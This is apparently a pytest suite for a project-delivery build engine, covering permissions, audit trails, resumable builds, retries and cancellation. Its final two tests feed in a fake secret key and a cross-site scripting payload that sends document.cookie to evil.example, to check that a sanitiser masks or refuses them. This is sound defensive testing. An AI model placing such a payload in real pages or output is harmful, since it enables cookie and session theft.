"""Delivery: under the threshold no vote; the build is resumable, never duplicates, fails cleanly."""

import asyncio

import pytest
from sqlalchemy import func, select

from engine.delivery.build import cancel_build, run_build
from engine.delivery.deliver import deliver_project
from engine.delivery.schemas import DeliverInput
from engine.delivery.views import get_project_delivery
from engine.delivery.writer import OfflineBuildWriter
from engine.errors import PolicyDenied, ProjectNotDeliverable
from storage.models import AuditEntry, Lead, Milestone, Project, ProjectArtifact, VoteSession
from tests.conftest import ADMIN, VIEWER, op
from tests.helpers.delivery import DELIVERY, make_project, member


async def project_row(services, pid):
    async with services.session_factory() as s:
        return await s.get(Project, pid)


async def lead_stage(services, pid):
    async with services.session_factory() as s:
        p = await s.get(Project, pid)
        return (await s.get(Lead, p.lead_id)).stage


async def test_under_threshold_builds_without_a_vote(services):
    pid = await make_project(services, price="3000", milestones=3)
    res = await op(services, DELIVERY, deliver_project, pid)
    assert (res.status, res.job_id, res.vote_id) == ("in_progress", f"build:{pid}", None)
    p = await project_row(services, pid)
    assert p.grace_architect_used and p.automated_delivery and p.started_at
    await services.queue.join()
    view = await op(services, VIEWER, get_project_delivery, pid)
    assert view.status == "delivered" and view.progress == 1.0 and view.completed_at
    assert {m.status for m in view.milestones} == {"done"}
    assert len(view.artifacts) == 6 and len({(a.milestone_id, a.name) for a in view.artifacts}) == 6
    assert "01-discovery/report.md" in {a.name for a in view.artifacts}
    assert await lead_stage(services, pid) == "DELIVERED"
    async with services.session_factory() as s:
        assert (await s.execute(select(func.count()).select_from(VoteSession))).scalar_one() == 0
        stages = (await s.execute(select(AuditEntry.details).where(AuditEntry.action == "lead.stage_changed")
                                  .order_by(AuditEntry.seq))).scalars().all()
    assert [d["to_stage"] for d in stages] == ["ACTIVE", "DELIVERED"]
    with pytest.raises(ProjectNotDeliverable, match="already delivered"):
        await op(services, DELIVERY, deliver_project, pid)


async def test_only_delivery_may_deliver(services):
    pid = await make_project(services, price="3000")
    with pytest.raises(PolicyDenied):
        await op(services, member("UAPP001"), deliver_project, pid)


async def test_lead_not_at_contract_is_refused_and_nothing_is_written(services):
    pid = await make_project(services, price="3000", lead_stage="NEGOTIATION")
    with pytest.raises(PolicyDenied) as refused:
        await op(services, DELIVERY, deliver_project, pid)
    assert refused.value.rule == "deliver_project.required_stage" and "NEGOTIATION" in refused.value.message
    assert await lead_stage(services, pid) == "NEGOTIATION"
    assert (await project_row(services, pid)).status == "proposed"


async def test_unsigned_project_is_refused_unless_an_admin_overrides_with_a_reason(services):
    pid = await make_project(services, price="3000", lead_stage="NEGOTIATION", proposal_approved=False)
    for who in (DELIVERY, ADMIN):
        with pytest.raises(PolicyDenied) as refused:
            await op(services, who, deliver_project, pid)
        assert refused.value.rule == "deliver_project.accepted_proposal"
    with pytest.raises(PolicyDenied) as refused:  # only an admin may override
        await op(services, DELIVERY, deliver_project, DeliverInput(project_id=pid, override_reason="urgent"))
    assert refused.value.rule == "deliver_project.override"
    assert (await project_row(services, pid)).status == "proposed"
    assert await lead_stage(services, pid) == "NEGOTIATION"

    res = await op(services, ADMIN, deliver_project,
                   DeliverInput(project_id=pid, override_reason="Signed on paper on 1 Dec; scan in the shared drive"))
    assert res.status == "in_progress"
    await services.queue.join()
    assert await lead_stage(services, pid) == "DELIVERED"
    async with services.session_factory() as s:
        overrides = (await s.execute(select(AuditEntry).where(AuditEntry.action == "override.recorded"))).scalars().all()
        moves = (await s.execute(select(AuditEntry.details).where(AuditEntry.action == "lead.stage_changed")
                                 .order_by(AuditEntry.seq))).scalars().all()
    assert [(o.subject, o.actor, o.details["operation"]) for o in overrides] == [
        (f"project:{pid}", ADMIN.label, "deliver_project")]
    assert "scan in the shared drive" in overrides[0].details["reason"]
    assert [(m["from_stage"], m["to_stage"]) for m in moves] == [
        ("NEGOTIATION", "CONTRACT"), ("CONTRACT", "ACTIVE"), ("ACTIVE", "DELIVERED")]
    assert moves[0]["reason"].startswith("admin override: Signed on paper")


async def test_project_without_milestones_is_refused(services):
    pid = await make_project(services, price="3000", milestones=0)
    with pytest.raises(ProjectNotDeliverable, match="no milestones"):
        await op(services, DELIVERY, deliver_project, pid)


class FlakyWriter(OfflineBuildWriter):
    """Fails on the given milestone seq the first `failures` times."""

    def __init__(self, fail_seq, failures):
        super().__init__()
        self.fail_seq, self.failures, self.calls = fail_seq, failures, []

    async def write(self, brief):
        self.calls.append(brief.milestone_seq)
        if brief.milestone_seq == self.fail_seq and self.failures > 0:
            self.failures -= 1
            raise RuntimeError("architect unavailable")
        return await super().write(brief)


async def test_resumed_build_skips_finished_milestones(services):
    pid = await make_project(services, price="3000", milestones=4)
    services.build_writer = writer = FlakyWriter(fail_seq=3, failures=1)
    services.queue = None  # run the build by hand
    await op(services, DELIVERY, deliver_project, pid)
    with pytest.raises(RuntimeError):
        await run_build(services, pid)
    assert (await project_row(services, pid)).progress == 0.5
    outcome = await run_build(services, pid)
    assert outcome.status == "delivered" and len(outcome.built) == 2
    assert writer.calls == [1, 2, 3, 3, 4]
    again = await run_build(services, pid)  # a duplicate run changes nothing
    assert again.status == "delivered" and again.built == []
    async with services.session_factory() as s:
        names = (await s.execute(select(ProjectArtifact.milestone_id, ProjectArtifact.name)
                                 .where(ProjectArtifact.project_id == pid))).all()
        progress = [d["progress"] for d in (await s.execute(
            select(AuditEntry.details).where(AuditEntry.action == "project.milestone_built")
            .order_by(AuditEntry.seq))).scalars()]
    assert len(names) == len(set(names)) == 8
    assert progress == [0.25, 0.5, 0.75, 1.0]


async def test_failures_retry_then_fail_the_project_and_tell_the_team(services):
    services.settings.build_max_tries = 3
    services.settings.build_retry_seconds = 0
    services.build_writer = writer = FlakyWriter(fail_seq=2, failures=99)
    pid = await make_project(services, price="3000", milestones=3)
    await op(services, DELIVERY, deliver_project, pid)
    await services.queue.join()
    p = await project_row(services, pid)
    assert p.status == "failed" and "architect unavailable" in p.failure_reason
    assert writer.calls.count(2) == 3
    sent = services.notifier.inner.sent
    assert any("failed" in m["text"] and f"#{pid}" in m["text"] for m in sent)
    # fixed: deliver again, the build resumes after the finished milestone
    writer.failures = 0
    res = await op(services, DELIVERY, deliver_project, pid)
    assert res.status == "in_progress"
    await services.queue.join()
    assert (await project_row(services, pid)).status == "delivered"
    assert writer.calls.count(1) == 1


async def test_cancel_stops_a_running_build(services):
    services.settings.build_step_delay_seconds = 0.3
    pid = await make_project(services, price="3000", milestones=5)
    await op(services, DELIVERY, deliver_project, pid)
    for _ in range(100):
        if (await project_row(services, pid)).progress > 0:
            break
        await asyncio.sleep(0.05)
    with pytest.raises(PolicyDenied):
        await op(services, VIEWER, cancel_build, pid)
    out = await op(services, member("UAPP001"), cancel_build, pid)
    assert out.status == "cancelled"
    await services.queue.join()
    p = await project_row(services, pid)
    assert p.status == "cancelled" and p.progress < 1
    async with services.session_factory() as s:
        done = (await s.execute(select(func.count()).select_from(Milestone).where(
            Milestone.project_id == pid, Milestone.status == "done"))).scalar_one()
    assert 1 <= done < 5
    with pytest.raises(ProjectNotDeliverable):
        await op(services, ADMIN, cancel_build, pid)


class HostileWriter(OfflineBuildWriter):
    """A model-backed writer gone wrong: adds `extra` to every report."""

    def __init__(self, extra):
        super().__init__()
        self.extra = extra

    async def write(self, brief):
        docs = await super().write(brief)
        return [d.model_copy(update={"content": d.content + self.extra}) for d in docs]


async def test_artifacts_are_masked_by_hunter_before_they_are_stored(services):
    services.build_writer = HostileWriter("\n<!channel> token sk_live_51HqLyjWDarjtT1zdp7dcXyz12\n")
    pid = await make_project(services, price="3000", milestones=2)
    await op(services, DELIVERY, deliver_project, pid)
    await services.queue.join()
    assert (await project_row(services, pid)).status == "delivered"
    async with services.session_factory() as s:
        contents = (await s.execute(select(ProjectArtifact.content)
                                    .where(ProjectArtifact.project_id == pid))).scalars().all()
    assert len(contents) == 4
    assert all("<!channel>" not in c and "sk_live_51Hq" not in c and "[removed: mass mention]" in c
               for c in contents)


async def test_a_script_in_an_artifact_fails_the_build_and_stores_nothing(services):
    services.build_writer = HostileWriter("<script>fetch('https://evil.example/'+document.cookie)</script>")
    pid = await make_project(services, price="3000", milestones=2)
    await op(services, DELIVERY, deliver_project, pid)
    await services.queue.join()
    p = await project_row(services, pid)
    assert p.status == "failed" and "refused by Hunter" in p.failure_reason
    async with services.session_factory() as s:
        assert (await s.execute(select(func.count()).select_from(ProjectArtifact))).scalar_one() == 0
    sent = [m["text"] for m in services.notifier.inner.sent]
    assert any("failed" in t and f"#{pid}" in t for t in sent) and not any("<script" in t for t in sent)
